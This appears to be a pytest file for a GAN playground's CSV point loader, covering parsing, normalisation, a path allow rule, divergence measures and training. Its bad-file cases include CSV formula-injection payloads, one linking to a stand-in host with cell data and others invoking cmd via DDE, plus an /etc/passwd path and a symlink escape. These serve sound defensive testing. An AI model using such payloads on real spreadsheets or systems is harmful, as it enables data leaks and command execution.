"""A person's own 2D points: reading CSV files (good and hostile), normalising, the app's file
rule, the measures that need no modes (against hand-computed values and the prdc reference),
and training on drawn points (reproducible, saved with the checkpoint)."""

from __future__ import annotations

import math
import os

import numpy as np
import pytest
import torch

from playground.data import userpoints
from playground.data.source import DatasetUnavailable
from playground.data.userpoints import PointsError, parse_csv
from playground.errors import ConfigError
from playground.measures import metrics
from playground.settings.config import GANConfig


def csv_of(points, header: str | None = "x,y", sep: str = ",") -> bytes:
    lines = ([header] if header else []) + [f"{x}{sep}{y}" for x, y in points]
    return ("\n".join(lines) + "\n").encode()


def square(n: int = 40) -> np.ndarray:
    """n points on the corners and edges of the box [10, 30] x [5, 15] (so the box is known)."""
    t = np.linspace(0, 1, n)
    return np.stack([10 + 20 * t, 5 + 10 * (np.arange(n) % 2)], axis=1)


# ---------------------------------------------------------------------- good files
@pytest.mark.parametrize(
    "data",
    [
        csv_of(square()),
        csv_of(square(), header=None),
        csv_of(square(), header="a;b", sep=";"),
        csv_of(square(), header=None, sep="\t"),
        b"\xef\xbb\xbf# made by hand\n" + csv_of(square()),  # a BOM and a comment
    ],
    ids=["header", "no-header", "semicolons", "tabs", "bom-comment"],
)
def test_good_files_give_the_same_normalised_points(data: bytes) -> None:
    got = parse_csv(data)
    expected = parse_csv(csv_of(square()))
    assert got.points.shape == (40, 2)
    np.testing.assert_allclose(got.points, expected.points)


def test_named_columns_are_picked_among_more() -> None:
    pts = square()
    text = "id,y,label,x\n" + "".join(f"{i},{y},a,{x}\n" for i, (x, y) in enumerate(pts))
    got = parse_csv(text.encode(), normalise=False)
    np.testing.assert_array_equal(got.points, pts)


def test_normalising_centres_the_box_and_fits_the_toys_window_keeping_the_aspect() -> None:
    got = parse_csv(csv_of(square()))
    low, high = got.points.min(0), got.points.max(0)
    # The box [10, 30] x [5, 15] has centre (20, 10) and half-width 10: scale 2/10 = 0.2.
    np.testing.assert_allclose(low, [-2.0, -1.0])
    np.testing.assert_allclose(high, [2.0, 1.0])
    assert any("scaled by 0.2" in note and "aspect ratio kept" in note for note in got.notes)
    again = userpoints.finish(got.points)  # already normalised: nothing moves
    np.testing.assert_allclose(again.points, got.points)
    assert not any("scaled" in note for note in again.notes)


def test_too_many_points_are_subsampled_the_same_way_every_time() -> None:
    rng = np.random.default_rng(1)
    many = rng.normal(size=(userpoints.MAX_POINTS + 500, 2)).round(4)
    first, second = parse_csv(csv_of(many)), parse_csv(csv_of(many))
    assert len(first) == userpoints.MAX_POINTS
    np.testing.assert_array_equal(first.points, second.points)
    assert any("a fixed random 20,000 of them are used" in n for n in first.notes)


# ---------------------------------------------------------------------- bad files
BAD = {
    "empty": (b"", "no data lines"),
    "only-header": (b"x,y\n", "a header but no data lines"),
    "one-column": (b"1\n2\n3\n", "line 1 has 1 value; expected two"),
    "three-columns": (b"1,2,3\n4,5,6\n", "line 1 has 3 values"),
    "text-value": (csv_of(square()) + b"3,abc\n", "line 42: y value 'abc' is not a number"),
    "nan": (csv_of(square()) + b"nan,1\n", "line 42: x value 'nan' is not a finite number"),
    "inf": (csv_of(square()) + b"1,-inf\n", "is not a finite number"),
    "overflow": (csv_of(square()) + b"1e999,1\n", "is not a finite number"),
    "formula": (
        b'x,y\n=HYPERLINK("http://evil.example/?"&A1),1\n',
        "line 2: x value '=HYPERLINK(\"http://evil.…' is not a number",
    ),
    "formula-cmd": (b"1,2\n@SUM(1+1)*cmd|' /C calc'!A0,3\n", "line 2 has 4 values"),
    "formula-plain": (b"1,2\n+cmd|calc!A0,3\n", "x value '+cmd|calc!A0' is not a number"),
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary"),
    "not-utf8": (b"1,2\n\xff\xfe3,4\n", "not UTF-8"),
    "too-few": (csv_of(square(5)), "5 points; at least 20"),
    "all-the-same": (csv_of([(1.5, 2.5)] * 30), "every point is the same"),
    "a-path": (b"/etc/passwd\n", "a header of 1 columns"),
    "control-chars": (b"1,2\n\x1b[31mred\x07,3\n", r"'\x1b[31mred\x07'"),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_every_bad_file_gets_one_line_naming_the_problem(case: str) -> None:
    data, expected = BAD[case]
    with pytest.raises(PointsError) as info:
        parse_csv(data)
    message = str(info.value)
    assert expected in message
    assert "\n" not in message and message.isprintable() and len(message) < 200


def test_a_huge_file_is_refused_before_it_is_read() -> None:
    huge = b"1,2\n" * (userpoints.MAX_FILE_BYTES // 4 + 1)
    with pytest.raises(PointsError, match=r"at most 2\.0 MB"):
        parse_csv(huge)


def test_too_many_lines_are_refused() -> None:
    lines = b"1,2\n" * (userpoints.MAX_ROWS + 1)
    assert len(lines) <= userpoints.MAX_FILE_BYTES  # the line cap, not the size cap, refuses
    with pytest.raises(PointsError, match="more than 200,000 lines"):
        parse_csv(lines)


def test_a_points_file_that_cannot_be_read_names_the_setting(tmp_path) -> None:
    with pytest.raises(DatasetUnavailable, match="^points_file: .* does not exist"):
        userpoints.read_points_file(tmp_path / "gone.csv")
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"x,y\n=1+1,2\n")
    with pytest.raises(DatasetUnavailable, match="^points_file: line 2: x value"):
        userpoints.read_points_file(bad)


def test_the_dataset_needs_a_points_file() -> None:
    with pytest.raises(ConfigError, match="^points_file: dataset 'own-points' needs points"):
        GANConfig(dataset="own-points").validate()


# ---------------------------------------------------------------------- the app's file rule
def test_the_app_reads_only_csv_files_under_its_own_space_or_allowed_roots(
    tmp_path, monkeypatch
) -> None:
    monkeypatch.delenv("GAN_PLAYGROUND_DATA_ROOTS", raising=False)
    own = tmp_path / "space"
    inside = userpoints.save_points(square(), own)
    assert userpoints.check_app_points_file(str(inside), own=[own]) == inside.resolve()
    outside = tmp_path / "elsewhere.csv"
    outside.write_text("1,2\n")
    link = own / "link.csv"
    link.symlink_to(outside)
    for path in ("/etc/passwd", str(outside), str(link), "points.csv", "", str(own / "x.txt")):
        with pytest.raises(ConfigError) as info:
            userpoints.check_app_points_file(path, own=[own])
        assert info.value.setting == "points_file"
    monkeypatch.setenv("GAN_PLAYGROUND_DATA_ROOTS", str(tmp_path))
    assert userpoints.check_app_points_file(str(outside)) == outside.resolve()


def test_saved_points_are_named_by_their_content(tmp_path) -> None:
    a = userpoints.save_points(square(), tmp_path)
    b = userpoints.save_points(square(), tmp_path)
    c = userpoints.save_points(square() + 1, tmp_path)
    assert a == b != c and a.name.startswith("points-") and a.suffix == ".csv"
    np.testing.assert_allclose(parse_csv(a.read_bytes(), normalise=False).points, square())


def test_the_example_file_reads_back() -> None:
    example = parse_csv(userpoints.example_csv().encode())
    assert len(example) == 600 and np.abs(example.points).max() == pytest.approx(2.0)


def test_the_brush_lays_points_around_each_click() -> None:
    rng = np.random.default_rng(0)
    dabs = userpoints.brush(np.array([[0.0, 0.0], [1.0, -1.0]]), 500, 0.1, rng)
    assert dabs.shape == (1000, 2)
    np.testing.assert_allclose(dabs[:500].mean(0), [0, 0], atol=0.02)
    np.testing.assert_allclose(dabs[500:].std(0), [0.1, 0.1], atol=0.01)


# ---------------------------------------------------------------------- measures by hand
EPS = metrics.GRID_SMOOTHING


def test_identical_sets_score_perfectly() -> None:
    real = np.random.default_rng(3).uniform(-2, 2, (300, 2))
    got = metrics.point_measures(real, real.copy())
    assert got["precision"] == got["recall"] == 1.0
    assert got["kl_grid"] == got["js_grid"] == 0.0


def test_disjoint_sets_score_zero_and_log_two() -> None:
    rng = np.random.default_rng(4)
    real = rng.uniform(-2.0, -1.9, (200, 2))  # every real point in one cell
    fake = rng.uniform(1.9, 2.0, (200, 2))  # every generated point in another
    got = metrics.point_measures(real, fake)
    assert got["precision"] == got["recall"] == 0.0
    # By hand: p = 1 in cell a, q = 1 in cell b, ε added to every share, m = ½ in a and b.
    # JS = ½[(1+ε) log((1+ε)/(½+ε)) + ε log(ε/(½+ε))] · 2 (cells a and b are symmetric).
    js = (1 + EPS) * math.log((1 + EPS) / (0.5 + EPS)) + EPS * math.log(EPS / (0.5 + EPS))
    kl = (1 + EPS) * math.log((1 + EPS) / EPS) + EPS * math.log(EPS / (1 + EPS))
    assert got["js_grid"] == pytest.approx(js, abs=1e-12)
    assert got["kl_grid"] == pytest.approx(kl, abs=1e-12)
    assert got["js_grid"] == pytest.approx(math.log(2), abs=1e-3)


def test_half_the_data_missed_by_hand() -> None:
    # Real: half in cell a, half in cell b. Generated: all in cell a.
    real = np.array([[-2.4, -2.4]] * 10 + [[2.4, 2.4]] * 10)
    fake = np.array([[-2.4, -2.4]] * 20)
    got = metrics.grid_divergences(real, fake)
    p_a, p_b, q_a, q_b = 0.5 + EPS, 0.5 + EPS, 1 + EPS, EPS
    m_a, m_b = 0.75 + EPS, 0.25 + EPS
    kl = p_a * math.log(p_a / q_a) + p_b * math.log(p_b / q_b)
    js = 0.5 * (p_a * math.log(p_a / m_a) + p_b * math.log(p_b / m_b)) + 0.5 * (
        q_a * math.log(q_a / m_a) + q_b * math.log(q_b / m_b)
    )
    assert got["kl_grid"] == pytest.approx(kl, abs=1e-12)
    assert got["js_grid"] == pytest.approx(js, abs=1e-12)


def test_points_outside_the_window_count_in_their_own_cell() -> None:
    shares = metrics.grid_histogram(np.array([[0.0, 0.0], [10.0, 0.0], [0.0, -3.0], [2.49, 2.49]]))
    bins = metrics.GRID_BINS
    assert shares.shape == (bins * bins + 1,)
    assert shares[-1] == 0.5 and shares.sum() == pytest.approx(1.0)
    assert shares[(bins // 2) * bins + bins // 2] == 0.25  # (0, 0) is cell (10, 10)
    assert shares[bins * bins - 1] == 0.25  # the top-right corner cell


def test_precision_and_recall_match_the_prdc_reference_on_points() -> None:
    prdc = pytest.importorskip("prdc")
    rng = np.random.default_rng(5)
    real = rng.normal(size=(400, 2))
    fake = rng.normal(size=(400, 2)) * 0.5 + 0.3
    expected = prdc.compute_prdc(real_features=real, fake_features=fake, nearest_k=3)
    got = metrics.point_measures(real, fake)
    for key in ("precision", "recall", "density", "coverage"):
        assert got[key] == pytest.approx(float(expected[key]), abs=1e-12), key


def test_a_collapsed_generator_reads_precise_but_not_recalling() -> None:
    rng = np.random.default_rng(6)
    real = rng.uniform(-2, 2, (1000, 2))
    corner = real[(real < 0).all(axis=1)]  # a quarter of the data, copied with a little noise
    collapsed = corner[rng.integers(0, len(corner), 1000)] + rng.normal(0, 1e-3, (1000, 2))
    got = metrics.point_measures_against(real, collapsed)
    # By hand for the grid: 3/4 of the real mass has no generated point (½·¾·log 2 ≈ 0.26 of
    # JS) and the corner is 4 times too dense (≈ 0.12 more).
    assert got["precision"] > 0.95 and got["recall"] < 0.35
    assert got["js_grid"] == pytest.approx(0.38, abs=0.05)


# ---------------------------------------------------------------------- training on them
def drawn(tmp_path) -> str:
    rng = np.random.default_rng(0)
    strokes = np.array([[-1.5, -1.0], [-0.5, 0.5], [0.5, 1.0], [1.5, -0.5]])
    points = userpoints.finish(userpoints.brush(strokes, 60, 0.15, rng)).points
    return str(userpoints.save_points(points, tmp_path / "space"))


def test_a_short_run_on_drawn_points_is_measured_reproducible_and_saved(tmp_path) -> None:
    from playground.latent import load_latent_model
    from playground.storage.checkpoints import load_checkpoint, save_checkpoint
    from playground.training.trainer import Trainer

    path = drawn(tmp_path)
    cfg = GANConfig(
        dataset="own-points", points_file=path, steps=120, eval_every=60, device="cpu", seed=3
    )
    runs = [Trainer(cfg), Trainer(cfg)]
    for trainer in runs:
        for _ in range(120):
            trainer.train_step()
    a, b = (t.sample(64, seed=1) for t in runs)
    assert torch.equal(a, b)  # same points, settings and seed: the same run
    record = runs[0].measures.records[-1]
    assert record["step"] == 120 and record["samples"] == 1000
    assert {"precision", "recall", "kl_grid", "js_grid"} <= set(record)
    assert "modes_held" not in record
    assert 0.0 <= record["js_grid"] <= math.log(2)
    real = runs[0].data.points.clone()
    assert real.shape == (240, 2)

    folder = save_checkpoint(runs[0], tmp_path / "run")
    os.remove(path)  # the session's upload is gone; the checkpoint holds the points
    again = load_checkpoint(folder, device="cpu")
    assert torch.equal(again.data.points, real)
    assert torch.equal(again.sample(64, seed=1), a)
    explored = load_latent_model(folder)
    shown = torch.as_tensor(explored.real)
    assert shown.shape[1] == 2
    assert torch.isin(shown[:, 0], real[:, 0]).all()  # the real points are the user's own
